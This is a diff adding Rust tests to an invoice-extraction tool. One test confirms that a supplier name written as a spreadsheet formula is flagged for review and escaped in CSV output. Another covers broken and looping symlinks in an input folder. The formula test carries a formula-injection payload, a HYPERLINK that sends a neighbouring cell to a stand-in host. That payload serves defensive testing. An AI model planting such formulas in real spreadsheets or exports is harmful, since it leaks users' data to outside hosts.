@@ -2,6 +2,7 @@
 
 use std::process::Stdio;
 
+use fieldmark_testkit::e_invoices::{CiiProfile, cii};
 use serde_json::Value;
 
 use crate::bench::{Bench, invoice, invoice_of_pages, rows};
@@ -117,4 +118,36 @@ fn who_reads_no_further_is_no_error() {
     let output = child.wait_with_output().unwrap();
     assert_eq!(output.status.code(), Some(0));
     assert_eq!(String::from_utf8(output.stderr).unwrap(), "");
+}
+
+/// A supplier's name that sends the row beside it away when a spreadsheet calculates it.
+const FORMULA: &str = "=HYPERLINK(\"http://a.example/?\"&amp;A1;\"Invoice\")";
+
+#[test]
+fn a_suppliers_formula_is_text_in_csv_and_to_be_reviewed() {
+    let xml = cii(CiiProfile::En16931).replace("Werkzeug Muster GmbH", FORMULA);
+    let bench = Bench::new().with("a.xml", xml);
+    let row = &rows(&bench.run(&["extract", "a.xml"]).printed(0))[0];
+    let formula = FORMULA.replace("&amp;", "&");
+    assert_eq!(row["fields"]["supplier_name"]["value"], formula.as_str());
+    let check = &row["fields"]["supplier_name"]["checks"][0];
+    assert_eq!((&check["name"], &check["passed"]), (&"not_a_formula".into(), &false.into()), "{row}");
+    assert_eq!(row["decision"], "review");
+    let quoted = formula.replace('"', "\"\"");
+    let csv = bench.run(&["extract", "a.xml", "--format", "csv"]).printed(0);
+    assert!(csv.contains(&format!("\"'{quoted}\"")) && csv.contains(",526.30,"), "{csv}");
+    let raw = bench.run(&["extract", "a.xml", "--format", "csv", "--raw"]).printed(0);
+    assert!(raw.contains(&format!("\"{quoted}\"")), "{raw}");
+}
+
+#[test]
+#[cfg(unix)]
+fn a_folder_tells_of_its_links_that_lead_nowhere() {
+    let bench = Bench::new().with("in/a.pdf", invoice());
+    std::os::unix::fs::symlink("gone.pdf", bench.at("in/b.pdf")).unwrap();
+    std::os::unix::fs::symlink("..", bench.at("in/again")).unwrap();
+    let rows = rows(&bench.run(&["extract", "in"]).printed(1));
+    assert_eq!(rows.len(), 2, "{rows:?}");
+    assert_eq!((&rows[1]["file"], &rows[1]["error"]["code"]), (&"in/b.pdf".into(), &"file_not_found".into()));
+    assert_eq!(rows[1]["error"]["message"], "the link leads to gone.pdf, which is not there");
 }
